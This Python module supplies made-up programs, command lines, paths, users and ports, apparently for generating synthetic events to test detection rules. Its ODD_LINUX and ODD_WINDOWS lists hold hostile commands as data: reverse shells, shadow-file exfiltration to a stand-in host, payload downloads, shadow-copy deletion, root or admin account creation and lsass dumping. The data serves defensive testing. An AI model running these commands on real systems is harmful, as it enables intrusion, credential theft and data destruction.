"""The words that events and rules have in common: programs, command lines, paths, names. All of them made up.

A command line is written with ``@`` where each run has a number of its own.
"""

# ruff: noqa: S108 - paths that events name, not paths that anything is written to

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Program:
    """A program and how it is run.

    Attributes:
        executable: Its path.
        commands: Arguments after the program's name, frequent ones first.
    """

    executable: str
    commands: tuple[str, ...]

    @property
    def name(self) -> str:
        """The last part of the path."""
        return self.executable.replace("\\", "/").rpartition("/")[2]


LINUX = tuple(
    Program(executable, commands)
    for executable, commands in (
        ("/usr/bin/bash", ("-c /usr/local/bin/probe --all", "-l", "-c 'cd /srv/build && make -j4'", "-c run-@")),
        ("/usr/bin/sed", ("-n 1,20p /etc/motd", "-e s/alpha/beta/g", "-i s/@/x/ /tmp/work-@")),
        ("/usr/bin/grep", ("-q running", "-r --include=*.conf listen /etc", "-c @ /var/log/app.log")),
        ("/usr/bin/cat", ("/proc/loadavg", "/etc/os-release", "/proc/@/stat")),
        ("/usr/sbin/cron", ("-f", "-f -P")),
        ("/usr/bin/python3", ("-m harvest.worker --queue default", "/srv/app/manage.py tick", "-m job --id @")),
        ("/usr/bin/curl", ("-fsS http://127.0.0.1:8080/health", "-o /dev/null https://node.example.net/v1/@")),
        ("/usr/sbin/sshd", ("-D", "-R")),
        ("/usr/bin/rsync", ("-a /srv/data/ backup.example.net::data", "--server -vlogDtpre.iLsfx . /srv/@")),
        ("/usr/bin/git", ("fetch --all", "rev-parse HEAD", "show @")),
        ("/usr/bin/ls", ("-la /srv", "-l", "/proc/@/fd")),
        ("/usr/bin/date", ("+%s", "-u")),
        ("/usr/lib/jvm/21/bin/java", ("-Xmx2g -jar /srv/orders/orders.jar", "-Xmx1g -jar /srv/ledger/ledger.jar")),
        ("/usr/sbin/nginx", ("-g 'daemon off;'", "-t")),
        ("/usr/bin/find", ("/var/spool -mtime +7 -delete", "/srv/cache -name tmp-@ -print")),
        ("/usr/bin/systemctl", ("is-active app.service", "show --property=MainPID app-@.service")),
        ("/usr/bin/apt-get", ("update -qq", "install -y --no-install-recommends tool-@")),
        ("/usr/bin/ps", ("aux", "-o pid,comm -p @")),
        ("/usr/bin/tar", ("-czf /var/backups/etc.tgz /etc", "-xzf /tmp/unpack/release-@.tgz")),
        ("/usr/bin/ssh", ("-o BatchMode=yes build@node.example.net true", "deploy@10.0.0.@")),
    )
)

WINDOWS = tuple(
    Program(executable, commands)
    for executable, commands in (
        (r"C:\Windows\System32\svchost.exe", ("-k netsvcs -p -s Schedule", "-k LocalService -p", "-k unit@")),
        (r"C:\Windows\System32\conhost.exe", ("0xffffffff -ForceV1", "0x@")),
        (r"C:\Windows\System32\cmd.exe", (r"/c C:\Tools\nightly", "/d", r"/c type C:\Tools\part-@.txt")),
        (r"C:\Program Files\Harbour\agent.exe", ("--service", "--poll 60", "--ticket @")),
        (r"C:\Windows\System32\taskhostw.exe", ("Install", "SYSTEM")),
        (r"C:\Program Files\Quill\quill.exe", ("--type=renderer --lang=en-GB", "--type=utility --handle=@")),
        (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", ("-File C:\\Tools\\stock.ps1", "-Job @")),
        (r"C:\Windows\System32\backgroundTaskHost.exe", ("-ServerName:App.Tile", "-ServerName:App.@")),
        (r"C:\Windows\System32\dllhost.exe", ("/Processid:{00000000-0000-0000-0000-000000000007}",)),
        (r"C:\Windows\explorer.exe", ("", "/factory")),
        (r"C:\Program Files\Office\writer.exe", ("/n", r"C:\Users\anna\Documents\letter-@.docx")),
        (r"C:\Windows\System32\msiexec.exe", ("/V", r"/i C:\Temp\setup-@.msi /qn")),
        (r"C:\Windows\System32\timeout.exe", ("/t 5", "/t @")),
        (r"C:\Windows\System32\chcp.com", ("65001",)),
        (r"C:\Windows\System32\findstr.exe", (r"/i ready C:\Tools\state.txt",)),
    )
)

ODD_LINUX = tuple(
    Program(executable, commands)
    for executable, commands in (
        ("/usr/bin/nc", ("-e /bin/sh 203.0.113.9 4444", "-lvnp 9001", "-w 2 198.51.100.@ 9001")),
        (
            "/usr/bin/curl",
            ("-s http://203.0.113.9/x.sh -o /tmp/.x", "--upload-file /etc/shadow ftp://203.0.113.9"),
        ),
        ("/tmp/.cache/kworkerd", ("--pool stratum.example.org:3333", "-B -u worker@")),
        ("/usr/bin/bash", ("-c 'base64 -d /tmp/.x | sh'", "-c 'cat /etc/shadow > /dev/tcp/203.0.113.9/443'")),
        (
            "/usr/bin/python3",
            ("-c 'import pty;pty.spawn(\"/bin/sh\")'", "-c 'import socket,os;s=socket.socket()'"),
        ),
        ("/usr/bin/chmod", ("u+s /tmp/.x", "777 /dev/shm/run-@")),
        ("/usr/bin/crontab", ("/tmp/.cron", "-r")),
        ("/usr/sbin/useradd", ("-o -u 0 -g 0 svc@", "-m helper@")),
        ("/usr/sbin/insmod", ("/dev/shm/hide.ko",)),
        ("/usr/bin/iptables", ("-F", "-P INPUT ACCEPT")),
    )
)

ODD_WINDOWS = tuple(
    Program(executable, commands)
    for executable, commands in (
        (r"C:\Windows\System32\certutil.exe", (r"-urlcache -split -f http://203.0.113.9/a.exe C:\Temp\a.exe",)),
        (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", ("-nop -w hidden -enc JABhAD0AMQA@",)),
        (r"C:\Windows\System32\rundll32.exe", (r"C:\Users\Public\a.dll,Start", "javascript:alert@")),
        (r"C:\Windows\System32\vssadmin.exe", ("delete shadows /all /quiet",)),
        (r"C:\Windows\System32\schtasks.exe", (r"/create /tn upd@ /tr C:\Users\Public\u.exe /sc minute",)),
        (r"C:\Windows\System32\net.exe", ("user helper@ Secret-1 /add", "localgroup administrators helper /add")),
        (r"C:\Windows\System32\wbem\WMIC.exe", ("process call create calc", "shadowcopy delete")),
        (r"C:\Windows\System32\mshta.exe", ("http://203.0.113.9/a.hta",)),
        (r"C:\Users\Public\upd.exe", ("-inject @", "-dump lsass")),
        (r"C:\Windows\System32\bitsadmin.exe", (r"/transfer j@ http://203.0.113.9/b.exe C:\Temp\b.exe",)),
    )
)

_SHELLS = ("bash", "python3")
_CONSOLES = ("cmd.exe", "powershell.exe")
_TOOLS = frozenset(program.name for program in LINUX) - {"bash", "cron", "sshd", "java", "nginx"}
_DESKTOP = ("explorer.exe",)

STARTERS = {
    "bash": ("sshd", "cron", "bash", "python3"),
    "cmd.exe": ("explorer.exe", "agent.exe"),
    "powershell.exe": ("explorer.exe", "agent.exe"),
    "quill.exe": ("explorer.exe", "quill.exe"),
    "writer.exe": _DESKTOP,
    "msiexec.exe": _DESKTOP,
    "conhost.exe": _CONSOLES,
    "timeout.exe": _CONSOLES,
    "chcp.com": _CONSOLES,
    "findstr.exe": _CONSOLES,
} | dict.fromkeys(_TOOLS, _SHELLS)
"""The programs by which others are started; the system starts those that are not here."""

PARENTS = frozenset(name for names in STARTERS.values() for name in names)
"""Programs that start others."""

RUN_AS = {
    "sshd": "root",
    "cron": "root",
    "nginx": "www-data",
    "java": "deploy",
    "svchost.exe": "SYSTEM",
    "taskhostw.exe": "SYSTEM",
    "dllhost.exe": "SYSTEM",
    "backgroundTaskHost.exe": "SYSTEM",
    "agent.exe": "SYSTEM",
}
"""The users of programs that the system starts."""

PORTS = {
    "curl": (443, 80, 8080),
    "python3": (443, 5432, 8080, 80),
    "rsync": (873, 22),
    "git": (443,),
    "java": (5432, 443, 8080),
    "nginx": (8080, 3128),
    "apt-get": (80, 443),
    "ssh": (22,),
    "svchost.exe": (443, 53, 123, 389, 80),
    "agent.exe": (443,),
    "quill.exe": (443, 80),
    "backgroundTaskHost.exe": (443,),
}
"""The programs that connect to somewhere, and to which ports."""

WRITERS = frozenset(
    [
        "sed",
        "python3",
        "curl",
        "rsync",
        "git",
        "java",
        "nginx",
        "apt-get",
        "tar",
        "svchost.exe",
        "agent.exe",
        "quill.exe",
        "writer.exe",
        "msiexec.exe",
        "explorer.exe",
        "backgroundTaskHost.exe",
    ]
)
"""The programs that write files and, on Windows, the registry."""

LINUX_USERS = ("root", "www-data", "deploy", "postgres", "alice", "build", "nobody", "bruno", "clara")
WINDOWS_USERS = ("SYSTEM", "LOCAL SERVICE", "anna", "bert", "carla", "NETWORK SERVICE", "svc-harbour", "dora")
LINUX_FOLDERS = ("/var/log", "/srv/data/in", "/var/cache/apt", "/tmp", "/home/alice/src", "/var/lib/app", "/run")
WINDOWS_FOLDERS = (
    r"C:\Users\anna\AppData\Local\Quill\Cache",
    r"C:\Windows\Temp",
    r"C:\ProgramData\Harbour\spool",
    r"C:\Users\bert\Documents",
    r"C:\Windows\Prefetch",
)
EXTENSIONS = ("log", "tmp", "json", "dat", "txt", "pf", "cache", "py", "docx", "db", "gz", "xml")
REGISTRY_KEYS = (
    r"Software\Harbour\State",
    r"System\CurrentControlSet\Services\bam\State\UserSettings",
    r"Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs",
    r"System\CurrentControlSet\Services\Harbour",
    r"Software\Quill\Profile",
)
ODD_REGISTRY_KEYS = (
    r"Software\Microsoft\Windows\CurrentVersion\Run",
    r"System\CurrentControlSet\Control\Lsa",
    r"Software\Microsoft\Windows\CurrentVersion\RunOnce",
)
LIBRARIES = ("ntdll", "kernel32", "quillcore", "harbour", "crypt32", "ws2_32", "rpcrt4", "user32", "combase")
DOMAINS = ("node.example.net", "updates.example.com", "mail.example.org", "cdn.example.net", "time.example.com")
USUAL_PORTS = (443, 80)
WORLD_PORTS = frozenset({443, 80})
"""Ports under which hosts outside are asked."""

ODD_PORTS = (4444, 9001, 3333, 6667)
